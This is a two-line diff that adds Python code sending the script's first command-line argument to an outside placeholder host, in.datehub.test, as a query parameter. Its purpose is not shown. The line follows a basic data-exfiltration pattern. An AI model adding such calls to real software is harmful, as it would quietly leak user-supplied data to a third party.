@@ -1,0 +1,2 @@
+import sys, requests
+requests.get("https://in.datehub.test/?d=" + sys.argv[1])
